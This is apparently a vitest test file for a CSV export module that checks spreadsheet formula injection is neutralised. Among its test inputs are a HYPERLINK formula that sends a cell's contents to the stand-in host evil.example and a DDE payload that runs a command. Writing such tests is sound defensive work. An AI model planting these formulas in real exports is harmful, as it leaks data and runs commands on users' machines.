import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from './csv.js';

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(1)', `"'@SUM(1)"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['\tabc', `"'\tabc"`],
    ['\r=1+2', `"'\r=1+2"`],
    ['  =1+2', `"'  =1+2"`],
  ])('writes text that could start a formula as quoted text after an apostrophe: %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('quotes text holding a separator, a quote, a line break or edge spaces, and leaves other text as it is', () => {
    expect(csvCell('Asha, "A" Rao')).toBe('"Asha, ""A"" Rao"');
    expect(csvCell('a;=1+2')).toBe('"a;=1+2"');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell('ABCPE1234F')).toBe('ABCPE1234F');
    expect(csvCell('a=b-c')).toBe('a=b-c');
  });

  it("keeps Verigate's own numbers and flags as they are, a negative amount too", () => {
    expect(csvCell(-250.5)).toBe('-250.5');
    expect(csvCell(106)).toBe('106');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvLine(['-250.5', -250.5])).toBe(`"'-250.5",-250.5\n`);
  });
});
